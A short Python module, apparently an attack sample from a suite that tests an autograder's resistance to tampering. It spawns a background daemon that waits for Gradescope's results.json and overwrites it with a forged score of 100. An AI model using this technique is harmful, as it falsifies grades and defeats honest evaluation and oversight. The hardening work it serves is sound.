"""A double-forked daemon waits for Gradescope's results.json, then rewrites it with full marks."""
MODULE = "ex3_mlp_backprop"
CLASS = "forged"
MODES = ("gradescope",)


def _forge(deadline):
    import json
    import time
    path = _ATTACK["outputs"][0]
    appeared = None
    while time.monotonic() < deadline + 200:
        if appeared is None and os.path.exists(path):
            appeared = time.monotonic()
        if appeared is not None and time.monotonic() - appeared > 1.0:
            try:
                with open(path, "w") as handle:
                    json.dump({"score": 100.0, "execution_time": 1, "output": f"forged {_ATTACK['marker']}",
                               "stdout_visibility": "hidden", "tests": []}, handle)
            except OSError:
                pass
            return
        time.sleep(0.2)


import os  # noqa: E402
_atk_daemon(_forge, seconds=20)
